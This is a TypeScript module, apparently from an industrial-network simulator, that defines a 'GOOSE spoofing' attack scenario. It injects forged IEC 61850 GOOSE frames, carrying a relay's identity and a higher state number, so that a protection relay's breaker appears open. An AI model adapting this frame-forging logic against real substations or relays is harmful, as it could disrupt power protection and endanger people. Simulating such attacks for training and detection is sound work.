import { goose, gooseGroup } from "../encode/goose.ts";
import type { Scenario } from "../engine/scenario.ts";
import { MILLISECOND } from "../schedule.ts";
import { number, oneByOne } from "./ways.ts";

/** Messages that pretend to be a relay's, with a newer state: the breaker is open. */
export const gooseSpoof: Scenario = {
  name: "goose-spoof",
  title: "GOOSE spoofing",
  kind: "attack",
  technique: "T0856",
  detail: "GOOSE with the relay's address and names and a higher state number, between the relay's own messages.",
  options: {
    application: "application identifier of the first relay, 1 unless told",
    messages: "how many, 40 unless told",
  },
  targets: ["protection-relay"],
  play(cast) {
    const { world, actor, targets } = cast;
    const [target] = targets;
    const application = number(cast, "application", 1) + target.number;
    const logical = `${target.name.replaceAll("-", "_").toUpperCase()}CFG/LLN0`;
    const changed = world.clock();
    oneByOne(cast, number(cast, "messages", 40), 200 * MILLISECOND, (index) => {
      world.out.reset();
      goose(world.out, {
        application,
        control: `${logical}$GO$gcb01`,
        dataSet: `${logical}$DSet01`,
        identifier: `${target.name}_GOOSE`,
        changed,
        state: 1000,
        sequence: index,
        valid: 2000,
        entries: [false, 0],
      });
      world.sendFrame(actor, gooseGroup(application), target.mac, 0x88b8, world.out);
    });
  },
};
